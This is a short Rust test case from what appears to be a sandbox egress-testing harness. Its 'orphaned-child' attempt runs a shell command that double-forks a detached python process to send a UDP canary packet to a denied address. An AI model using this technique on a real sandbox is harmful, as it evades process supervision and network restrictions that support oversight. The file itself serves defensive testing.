//! A process that outlives the one that started it.

use crate::attack::run;
use crate::case::Case;
use crate::target::{PORT, Target};
use anyhow::Result;

pub(super) const CASE: Case = Case::new("orphaned-child", "a process that outlives the one that started it", attempt);

fn attempt(target: &Target) -> Result<()> {
    let family = if target.is_v4() { "AF_INET" } else { "AF_INET6" };
    run(&format!(
        "(setsid python3 -c \"import os,socket; os.fork() and os._exit(0); socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'{}', ('{}', {PORT}))\" &) ; sleep 0.5",
        target.canary, target.denied
    ))
}
